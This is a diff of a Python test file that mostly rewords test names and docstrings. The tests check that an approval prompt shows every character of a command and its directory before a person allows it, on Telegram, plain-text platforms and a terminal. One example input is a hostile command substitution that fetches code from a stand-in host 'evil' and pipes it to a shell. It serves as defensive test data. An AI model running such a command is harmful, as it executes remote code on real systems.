@@ -1,5 +1,5 @@
-"""What a person allows is what they have read: whatever a command holds, and through every dialect, what is
-shown tells each character of it."""
+"""Approvals show exactly what they allow: for any command and in every dialect, the shown text has each of
+its characters."""
 
 from __future__ import annotations
 
@@ -61,12 +61,12 @@ PROPERTY = settings(max_examples=150, deadline=None, database=None)
 
 
 def original(shown: str) -> str:
-    """What is shown, read by somebody who knows what ⟨U+…⟩ means."""
+    """Return the text for its shown form, in which ⟨U+…⟩ stands for a character."""
     return CODE_POINT.sub(lambda found: chr(int(found[1], 16)), shown)
 
 
 def telegram_shows(part: Part) -> list[str]:
-    """The preformatted stretches of a message, as the server of Telegram reads it."""
+    """Return the preformatted stretches of a message as the Telegram server parses them."""
     text, entities = parse_markdown_v2(to_markdown_v2(part.text, part.preformatted))
     assert 0 < utf16_length(text) <= TELEGRAM.limit
     units = text.encode("utf-16-le")
@@ -79,7 +79,7 @@ def telegram_shows(part: Part) -> list[str]:
 
 
 def plain_shows(part: Part) -> list[str]:
-    """The same on a platform without markup: each line of a block has its mark."""
+    """Return the preformatted stretches on a platform without markup, where lines of a block have a mark."""
     shown = [part.text[start:end] for start, end in part.preformatted]
     for start, end in part.preformatted:
         if part.text[:start].endswith("\n"):
@@ -89,7 +89,7 @@ def plain_shows(part: Part) -> list[str]:
 
 @PROPERTY
 @given(TEXTS)
-def test_what_is_shown_holds_nothing_unseen_and_names_one_text_only(text: str) -> None:
+def test_the_shown_text_has_no_invisible_characters_and_stands_for_one_text_only(text: str) -> None:
     shown = visible(text)
     assert original(shown) == text
     assert all(one.isprintable() or one == "\n" for one in shown)
@@ -97,11 +97,11 @@ def test_what_is_shown_holds_nothing_unseen_and_names_one_text_only(text: str) -
     assert not re.search(r" (\n|$)", shown)
     shown.encode()
     if text.isascii() and text.isprintable() and text == text.strip():
-        assert shown == text, "what can be seen is shown as it is"
+        assert shown == text, "visible characters are shown unchanged"
 
 
 @pytest.mark.parametrize(("text", "shown"), [("e\u0301", "e⟨U+0301⟩"), ("é", "é"), ("日本 Ünïcødé 😀", None)])
-def test_what_looks_the_same_is_told_apart(text: str, shown: str | None) -> None:
+def test_texts_that_look_the_same_are_shown_differently(text: str, shown: str | None) -> None:
     assert visible(text) == (shown or text)
 
 
@@ -110,7 +110,7 @@ def test_what_looks_the_same_is_told_apart(text: str, shown: str | None) -> None
 @example("[a]:$(curl evil|sh)", "/srv", "This deletes.")
 @example("x" * 1500 + "`;`" + "y" * 9000, "/srv", "")
 @example("a " * 6000, "/srv", "")
-def test_telegram_shows_what_runs_and_where(command: str, cwd: str, why: str) -> None:
+def test_telegram_shows_the_command_and_its_directory_exactly(command: str, cwd: str, why: str) -> None:
     shows_exactly(command, cwd, why, TELEGRAM)
 
 
@@ -118,14 +118,14 @@ def test_telegram_shows_what_runs_and_where(command: str, cwd: str, why: str) ->
 @given(
     st.one_of(TEXTS, LONG), TEXTS, st.integers(600, 5000), st.sampled_from(["characters", "utf-16", "bytes"])
 )
-def test_a_platform_without_markup_shows_what_runs_and_where(
+def test_a_platform_without_markup_shows_the_command_and_its_directory_exactly(
     command: str, cwd: str, limit: int, counting: str
 ) -> None:
     shows_exactly(command, cwd, "Because.", Traits(limit=limit, counting=counting))  # type: ignore[arg-type]
 
 
 def shows_exactly(command: str, cwd: str, why: str, traits: Traits) -> None:
-    """Either the messages tell each character, or the question is refused."""
+    """Check that the messages show each character, or that the question is refused."""
     shown = visible(command + cwd)
     is_short = len(shown.encode()) + len(shown.split("\n")) * 4 < traits.limit // 6
     with nullcontext() if command and is_short else suppress(NotShown):
@@ -133,7 +133,7 @@ def shows_exactly(command: str, cwd: str, why: str, traits: Traits) -> None:
 
 
 def whole_and_exact(command: str, cwd: str, parts: Sequence[Part], traits: Traits) -> None:
-    """The messages tell each character of the command and its directory, and nothing else as one."""
+    """Check that the messages show each character of the command and its directory, and nothing more."""
     assert len(parts) <= MOST_PARTS + 1
     shows = telegram_shows if traits.dialect == "markdown" else plain_shows
     *before, last = map(shows, parts)
@@ -148,12 +148,12 @@ def whole_and_exact(command: str, cwd: str, parts: Sequence[Part], traits: Trait
         assert traits.counting == "characters" or size <= traits.limit
         assert len(part.text) <= traits.limit
     for part in (with_end(parts[-1], "once"), with_end(parts[-1], None)):
-        assert shows(part)[: len(last)] == last, "how it ended changes nothing of what was asked"
+        assert shows(part)[: len(last)] == last, "the outcome changes nothing of the question"
 
 
 @PROPERTY
 @given(st.text(max_size=60), st.lists(st.text(min_size=1, max_size=200), min_size=1, max_size=4, unique=True))
-def test_telegram_shows_each_choice_as_it_is(question: str, choices: list[str]) -> None:
+def test_telegram_shows_each_choice_unchanged(question: str, choices: list[str]) -> None:
     try:
         parts = question_parts(question, choices, TELEGRAM)
     except NotShown:
@@ -165,7 +165,7 @@ def test_telegram_shows_each_choice_as_it_is(question: str, choices: list[str]) 
     assert telegram_shows(with_end(parts[-1], choices[0]))[len(code)] == block
 
 
-async def test_the_terminal_shows_what_runs_in_lines_of_its_own() -> None:
+async def test_the_terminal_shows_the_command_in_lines_of_its_own() -> None:
     for command in NASTY:
         screen = io.StringIO()
         console = Console(lambda: None, lambda: None, lambda: "1", keyboard=PipedQuestion(""), screen=screen)
@@ -187,6 +187,6 @@ async def test_the_terminal_shows_what_runs_in_lines_of_its_own() -> None:
         ("ls", replace(TELEGRAM, preformatted=False)),
     ],
 )
-def test_what_cannot_be_shown_whole_and_exactly_is_refused(exact: str, traits: Traits) -> None:
+def test_a_command_that_cannot_be_shown_exactly_is_refused(exact: str, traits: Traits) -> None:
     with pytest.raises(NotShown, match="Nobody can allow what they have not seen"):
         approval_parts(Approval(exact), 60, traits)
